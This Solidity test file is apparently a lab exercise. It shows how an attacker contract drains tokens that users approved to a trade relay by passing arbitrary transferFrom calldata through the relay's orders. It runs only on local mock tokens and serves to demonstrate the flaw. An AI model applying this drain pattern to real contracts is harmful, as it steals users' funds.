// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Exchange} from "../arbitrary-call/src/Exchange.sol";
import {TradeRelay} from "../arbitrary-call/src/TradeRelay.sol";
import {IERC20, Token} from "../../shared/Erc20.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

/// Has the relay move what others hold, one order for each holder and token.
contract Thief {
    function run(TradeRelay relay, IERC20 stake, IERC20 other, address[] calldata victims) external {
        stake.approve(address(relay), type(uint256).max);
        for (uint256 i = 0; i < victims.length; ++i) {
            _steal(relay, stake, other, stake, victims[i]);
            _steal(relay, stake, other, other, victims[i]);
        }
    }

    function _steal(TradeRelay relay, IERC20 stake, IERC20 other, IERC20 loot, address victim) private {
        bytes memory data =
            abi.encodeCall(IERC20.transferFrom, (victim, address(this), loot.balanceOf(victim)));
        relay.trade(TradeRelay.Order(stake, 1, other, 0, address(loot), data));
    }
}

contract ArbitraryCallTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);
    address private constant MAKER = address(0x3A6E);

    event Profit(uint256 dollars);

    Token private silver;
    Token private dollar;
    Exchange private exchange;
    TradeRelay private relay;
    Thief private thief;

    function setUp() public {
        silver = new Token("Silver", "AG");
        dollar = new Token("Dollar", "USD");
        exchange = new Exchange(silver, dollar);
        relay = new TradeRelay(address(this));
        relay.list(address(exchange), true);
        thief = new Thief();

        silver.mint(MAKER, 200_000 ether);
        dollar.mint(MAKER, 5_000_000 ether);
        dollar.mint(ALICE, 1_250_000 ether);
        silver.mint(ALICE, 18_000 ether);
        dollar.mint(BOB, 430_000 ether);
        silver.mint(BOB, 61_000 ether);
        dollar.mint(address(thief), 20_000 ether);
        silver.mint(address(thief), 400 ether);
        address[3] memory users = [ALICE, BOB, MAKER];
        for (uint256 i = 0; i < 3; ++i) {
            address spender = users[i] == MAKER ? address(exchange) : address(relay);
            vm.startPrank(users[i]);
            silver.approve(spender, 1e60);
            dollar.approve(spender, 1e60);
            vm.stopPrank();
        }
        vm.prank(MAKER);
        exchange.join(160_000 ether, 4_000_000 ether);
        vm.prank(ALICE);
        relay.tradeAt(exchange, true, 1_000 ether, 24_500 ether);
        vm.prank(BOB);
        relay.tradeAt(exchange, false, 25_000 ether, 950 ether);
    }

    function _worth(address who) private view returns (uint256) {
        return dollar.balanceOf(who) + silver.balanceOf(who) * 25;
    }

    function test_attack_pays() public {
        uint256 before = _worth(address(thief));
        uint256 open = _worth(ALICE) + _worth(BOB);
        address[] memory victims = new address[](2);
        (victims[0], victims[1]) = (ALICE, BOB);
        thief.run(relay, dollar, silver, victims);
        uint256 profit = _worth(address(thief)) - before;
        emit Profit(profit);
        require(profit == open - 4, "less than all");
        require(_worth(ALICE) + _worth(BOB) == 0, "something left");
    }
}
